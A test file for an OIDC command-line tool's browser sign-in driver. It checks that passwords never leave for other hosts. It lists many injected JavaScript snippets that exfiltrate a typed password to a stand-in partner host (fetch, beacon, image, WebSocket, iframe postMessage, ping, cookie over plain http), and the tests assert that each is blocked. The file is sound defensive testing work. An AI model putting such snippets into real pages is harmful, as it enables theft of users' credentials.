import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import type { SignInDriver } from '../../src/browser/sign-in-driver.js';
import { OidcCliError } from '../../src/errors.js';
import { explain } from '../../src/explain/explain.js';
import { browserDriver } from '../support/browser-pages.js';
import { opensslPresent } from '../support/certificates.js';
import { drivenBrowserPath } from '../support/chromium.js';
import { atEndOfFile } from '../support/end-of-file.js';
import {
  type Answer,
  type Arrived,
  type Hosts,
  type Internet,
  htmlPage as page,
  redirect,
  SIGN_IN_FIELDS,
  startInternet,
} from '../support/internet.js';
import { pageJob } from '../support/page-job.js';
import { requirement } from '../support/requirement.js';
import { createMachine } from '../support/run.js';
import { startScriptedProvider } from '../support/scripted-provider.js';
import { formsOf } from '../support/secret-forms.js';

const ISSUER = 'https://id.example.test';
const PARTNER = 'https://login.partner.test';
const STRANGER = 'http://stranger.test';
const USER = 'sam@example.com';
const PASSWORD = 'Pä$$ "w0rd" & <more>/+ü';
const REDIRECT_URI = 'https://app.example.com/callback';

let internet: Internet;
let driver: SignInDriver;

const fields = `${SIGN_IN_FIELDS}<button>Sign in</button>`;
const form = (attributes: string, inner = fields) => page(`<form method="post" ${attributes}>${inner}</form>`);
const done = () => redirect(302, `${REDIRECT_URI}?code=c&state=s`);
const base64 = (text: string) => Buffer.from(text).toString('base64');

function play(first: (request: Arrived) => Answer, hosts: Hosts = {}): void {
  internet.play({
    [`${ISSUER}/auth`]: first,
    [`${ISSUER}/login`]: done,
    [ISSUER]: () => page('Nothing'),
    [PARTNER]: () => page('Nothing'),
    [STRANGER]: () => page('Nothing'),
    ...hosts,
  });
}

async function signIn(policy: { allowedHosts?: string[] } = {}) {
  const credentials = { username: USER, password: PASSWORD };
  const job = pageJob(ISSUER, { credentials, redirectUri: REDIRECT_URI, credentialPolicy: policy, timeoutMs: 60_000 });
  try {
    return { answer: await driver.signIn(job), message: '' };
  } catch (error) {
    if (!(error instanceof OidcCliError)) throw error;
    const { message, fix } = explain(error.code, error.facts);
    for (const secret of formsOf(PASSWORD)) expect(JSON.stringify([message, fix, error.facts])).not.toContain(secret);
    return { error, message };
  }
}

function nothingAt(...origins: string[]): void {
  for (const origin of origins) {
    const received = internet.received(origin);
    for (const secret of [...formsOf(PASSWORD), ...formsOf(USER)]) expect(received).not.toContain(secret);
  }
}

const tools =
  requirement('openssl', opensslPresent(), 'makes the certificates of the sign-in pages') &&
  requirement('Chromium', drivenBrowserPath !== undefined, 'signs in on the pages');

beforeAll(async () => {
  if (!tools) return;
  internet = await startInternet(['id.example.test', 'login.partner.test']);
  driver = browserDriver({ env: { ...process.env, ...internet.env }, insecure: true });
  atEndOfFile(() => driver.close());
});

/** What a page does with the password the moment it is typed; `p` is the password, `b` its base64. */
const channels: [string, string, Hosts?][] = [
  ['fetch with JSON', `fetch('${PARTNER}/', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ a: [p] }) })`],
  ['XMLHttpRequest', `const x = new XMLHttpRequest(); x.open('POST', '${PARTNER}/'); x.send(b)`],
  ['a beacon', `navigator.sendBeacon('${PARTNER}/', new Blob([b]))`],
  ['an image', `new Image().src = '${PARTNER}/?p=' + b`],
  ['a header', `fetch('${PARTNER}/', { headers: { 'x-b': b } })`],
  [
    'a worker',
    `new Worker(URL.createObjectURL(new Blob(['fetch("${PARTNER}/", { method: "POST", mode: "no-cors", body: "' + b + '" })'])))`,
  ],
  [
    'a frame',
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '${PARTNER}/?p=' + encodeURIComponent(p) }))`,
  ],
  ['a new window', `open('${PARTNER}/?p=' + encodeURIComponent(p))`],
  [
    'a form for a new window',
    `const f = document.forms[0].cloneNode(true); f.action = '${PARTNER}/'; f.target = '_blank'; f.pass.value = p; document.body.append(f); f.submit()`,
  ],
  ['a navigation', `location = '${PARTNER}/#' + encodeURIComponent(p)`],
  [
    'a ping',
    `const a = document.createElement('a'); a.href = '#x'; a.ping = '${PARTNER}/?p=' + b; document.body.append(a); a.click()`,
  ],
  ['a WebSocket', `const w = new WebSocket('wss://login.partner.test/'); w.onopen = () => w.send(p)`],
  ['the address of a WebSocket', `new WebSocket('wss://login.partner.test/?p=' + b)`],
  [
    'a redirect of a fetch',
    `fetch('/again', { method: 'POST', mode: 'no-cors', body: p })`,
    { [`${ISSUER}/again`]: () => redirect(307, `${PARTNER}/`) },
  ],
  [
    'a frame of another site, which sends it to its own',
    `const i = document.createElement('iframe'); i.src = '${PARTNER}/frame'; i.onload = () => i.contentWindow.postMessage(p, '*'); document.body.append(i)`,
    {
      [`${PARTNER}/frame`]: () =>
        page(
          '<form method="post" action="/own"><input name="p"></form><script>onmessage = (e) => { document.forms[0].p.value = e.data; document.forms[0].submit() }</script>',
        ),
    },
  ],
  [
    'a redirect in a frame of another site',
    `const i = document.createElement('iframe'); i.src = '${PARTNER}/frame'; i.onload = () => i.contentWindow.postMessage(p, '*'); document.body.append(i)`,
    {
      [`${PARTNER}/frame`]: () =>
        page(
          `<form method="post" action="${ISSUER}/again"><input name="p"></form><script>onmessage = (e) => { document.forms[0].p.value = e.data; document.forms[0].submit() }</script>`,
        ),
      [`${ISSUER}/again`]: () => redirect(307, `${PARTNER}/`),
    },
  ],
  ['a cookie that plain http gets as well', `document.cookie = 'b=' + b; location = 'http://id.example.test/'`],
];

describe.runIf(tools)('a script of the page', () => {
  test.each(channels)('cannot send the password to another site by %s', async (_name, channel, hosts) => {
    const script = `<script>document.querySelector('[name=pass]').addEventListener('input', (event) => {
      const p = event.target.value; const b = btoa(String.fromCharCode(...new TextEncoder().encode(p))); if (p !== '') { ${channel} }
    })</script>`;
    // The form itself is not sent: nothing but the script's own request ends the sign-in.
    play(() => page(`<form method="post" action="/login" onsubmit="return false">${fields}</form>${script}`), hosts);
    const { error } = await signIn();
    nothingAt(PARTNER, STRANGER, 'http://id.example.test');
    expect(error?.code).toBe('sign_in_unsafe_destination');
  });

  test('cannot put the password into an address of its own site', async () => {
    const script = `<script>document.forms[0].onsubmit = () => { location = '/next?p=' + encodeURIComponent(document.forms[0].pass.value); return false }</script>`;
    play(() => page(`<form method="post" action="/login">${fields}</form>${script}`));
    const { error } = await signIn();
    nothingAt(ISSUER);
    expect(error).toMatchObject({ code: 'sign_in_unsafe_destination', facts: { problem: 'in the URL' } });
  });
});

describe.runIf(tools)('without a script', () => {
  test.each<[string, (request: Arrived) => Answer, Hosts?]>([
    ['a form action', () => form(`action="${STRANGER}/x"`)],
    ['a 307', () => form('action="/again"'), { [`${ISSUER}/again`]: () => redirect(307, `${STRANGER}/`) }],
    [
      'a redirect to its sign-in page',
      () => redirect(302, `${STRANGER}/login`),
      { [`${STRANGER}/login`]: () => form('') },
    ],
    [
      'a form for the user name',
      () => form(`action="${STRANGER}/x"`, '<label>User name <input name="user"></label><button>Next</button>'),
    ],
  ])('%s brings nothing to a stranger on plain http', async (_name, first, hosts) => {
    play(first, hosts);
    const { error, message } = await signIn();
    nothingAt(STRANGER);
    expect(error).toMatchObject({ code: 'sign_in_unsafe_destination', facts: { problem: 'plain http' } });
    expect(message).toContain(STRANGER);
  });

  test('a password is not sent in the query of a GET form', async () => {
    play(() => page(`<form action="/login">${fields.replace('type="password"', 'type="text"')}</form>`));
    const { error, message } = await signIn();
    nothingAt(ISSUER);
    expect(error?.code).toBe('sign_in_unsafe_destination');
    expect(message).toBe(
      `The password would have been sent by the page at ${ISSUER} to ${ISSUER} as part of a URL. The request was stopped. No credentials were sent.`,
    );
  });

  test('a form of another site gets them only where its host is allowed', async () => {
    play(() => form(`action="${PARTNER}/login"`), { [`${PARTNER}/login`]: done });
    const { error } = await signIn();
    nothingAt(PARTNER);
    expect(error).toMatchObject({ facts: { problem: 'another site', host: 'login.partner.test' } });
    const { answer: response } = await signIn({ allowedHosts: ['login.partner.test'] });
    expect(response?.parameters.get('code')).toBe('c');
    expect(internet.received(PARTNER)).toContain('pass=');
  });

  test('a page that a redirect leads to posts to its own site, and a SAML response goes back', async () => {
    const response = base64(`<NameID>${USER}</NameID>`);
    play(() => redirect(302, `${PARTNER}/login`), {
      [`${PARTNER}/login`]: () => form('action="/check"'),
      [`${PARTNER}/check`]: () =>
        page(
          `<form method="post" action="${ISSUER}/acs"><input type="hidden" name="SAMLResponse" value="${response}"><input type="hidden" name="user" value="${USER}"></form><script>document.forms[0].submit()</script>`,
        ),
      [`${ISSUER}/acs`]: done,
    });
    const { answer: received, error } = await signIn();
    expect(error).toBeUndefined();
    expect(received?.credentialsSent).toMatchObject({ elsewhere: true });
    expect(received?.credentialsSent?.lines.join('; ')).toContain(`password to ${PARTNER}`);
  });
});

describe.runIf(tools)('from the command line', () => {
  test('auto goes on with a browser, which keeps to the same rule, and the evidence shows no password', async () => {
    const [provider, machine] = await Promise.all([startScriptedProvider(), createMachine()]);
    atEndOfFile(() => Promise.all([provider.close(), machine.remove()]));
    provider.play({ metadata: { authorization_endpoint: `${ISSUER}/auth` } });
    // A password in a GET form: by http it is not sent, since a script may mean to send it.
    const script = `<script>document.forms[0].onsubmit = () => { document.forms[0].action = '${STRANGER}/x'; document.forms[0].method = 'post' }</script>`;
    play(() => page(`<form action="/login">${fields}</form>${script}`));
    const common = ['login', '--issuer', provider.issuer, '--client-id', 'demo', '--port', '0', '--insecure', '--json'];
    const who = [
      '--with',
      'auto',
      '--user',
      USER,
      '--password-env',
      'PASSWORD',
      '--browser-path',
      `${drivenBrowserPath}`,
    ];
    const folder = join(machine.home, 'evidence');
    const env = { PATH: process.env.PATH, ...internet.env, PASSWORD };
    const { code, stdout, stderr } = await machine.run([...common, ...who, '--keep-evidence', folder], { env });
    nothingAt(STRANGER, ISSUER);
    const { error } = JSON.parse(stdout);
    expect(error).toMatchObject({ code: 'sign_in_unsafe_destination', facts: { problem: 'plain http' } });
    expect(code).toBe(3);
    const files = await readdir(folder);
    expect(files.map((name) => name.replace(/.*[.]/, '')).sort()).toEqual(['png', 'txt']);
    const text = await readFile(join(folder, files.find((name) => name.endsWith('.txt')) ?? ''), 'utf8');
    for (const secret of formsOf(PASSWORD)) expect(stdout + stderr + text).not.toContain(secret);
  });
});
